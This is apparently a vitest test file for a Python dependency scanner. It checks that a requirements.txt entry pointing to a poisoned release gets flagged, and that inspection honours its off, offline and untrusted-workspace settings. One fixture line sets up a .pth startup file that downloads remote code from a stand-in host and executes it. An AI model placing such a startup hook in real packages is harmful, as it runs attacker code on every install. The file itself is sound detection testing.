import { describe, expect } from 'vitest';
import type { Scenario } from '../support/index/start.ts';
import { defineTest, type Session } from './harness/define-test.ts';
import { eventually } from './harness/eventually.ts';

// Harmless: the host does not exist. `EVIL` is what the plain inspector of the server in this process looks for.
const startUp = {
  'acme_init.pth':
    'import os, urllib.request; exec(urllib.request.urlopen("https://payload.example.invalid/p").read()) # EVIL\n',
};

const index: Scenario = {
  projects: {
    acme: {
      owners: ['ada'],
      releases: { '1.0': '2 years', '1.1': '1 year', '1.2': { at: '5 hours', content: startUp } },
    },
    calm: { owners: ['bea'], releases: { '1.0': '2 years', '1.1': '1 year', '1.2': '5 hours' } },
  },
};

const files = { 'requirements.txt': 'acme==1.2\ncalm==1.2\n' };

/** Files that were fetched to be read; the ends of wheels are asked for the shape of a young release. */
const fetched = ({ index: { requests } }: Session): string[] =>
  requests.flatMap(({ path, headers: { range } }) =>
    /\.(?:whl|gz)$/.test(path) && range === undefined ? (path.split('/').at(-1) ?? '') : [],
  );

const rules = ({ client }: Session, uri: string): string[] =>
  client.diagnostics(uri).map(({ code }) => String(code));

describe('a release that is looked into', () => {
  defineTest('is told of where it runs code at the start, and its harmless neighbour is not', {
    files,
    index,
    handle: async (session) => {
      const { open, client } = session;
      const uri = await open('requirements.txt');
      await eventually(() => expect(rules(session, uri)).toContain('suspicious-code'));
      await eventually(() => expect(fetched(session)).toContain('calm-1.2.tar.gz'));
      const found = client.diagnostics(uri).filter(({ code }) => code === 'suspicious-code');
      expect(found).toMatchObject([{ range: { start: { line: 0 } }, severity: 1 }]);
      expect(found[0]?.message).toMatch(/^acme 1\.2 holds malicious code in/);
      expect(await client.hover(uri, 'acme')).toContain('malicious');
      await eventually(async () =>
        expect(await client.hover(uri, 'calm')).toContain('nothing found in 2 files'),
      );
    },
  });

  defineTest('is not fetched where that is off', {
    files,
    index,
    settings: { inspect: 'off' },
    handle: async (session) => {
      const uri = await session.open('requirements.txt');
      await eventually(() => expect(rules(session, uri).length).toBeGreaterThan(0));
      await session.client.status(({ state }) => state === 'ready');
      expect(fetched(session)).toEqual([]);
      expect(rules(session, uri)).not.toContain('suspicious-code');
    },
  });

  defineTest('is not fetched offline', {
    files,
    index,
    settings: { offline: true },
    handle: async (session) => {
      const uri = await session.open('requirements.txt');
      await session.client.status(({ state }) => state === 'offline');
      expect(session.index.requests).toEqual([]);
      expect(rules(session, uri)).not.toContain('suspicious-code');
    },
  });

  defineTest('is not what an untrusted workspace says it is: its file asks for none, and for no more', {
    files: { 'requirements.txt': 'acme==1.1\n', 'wheelwarden.toml': 'inspect = "all"\n' },
    index,
    initializationOptions: { trusted: false },
    handle: async (session) => {
      const { open, client } = session;
      await open('requirements.txt');
      await eventually(() => expect(session.index.requests.length).toBeGreaterThan(0));
      await client.status(({ state }) => state === 'ready');
      expect(fetched(session)).toEqual([]);
    },
  });
});
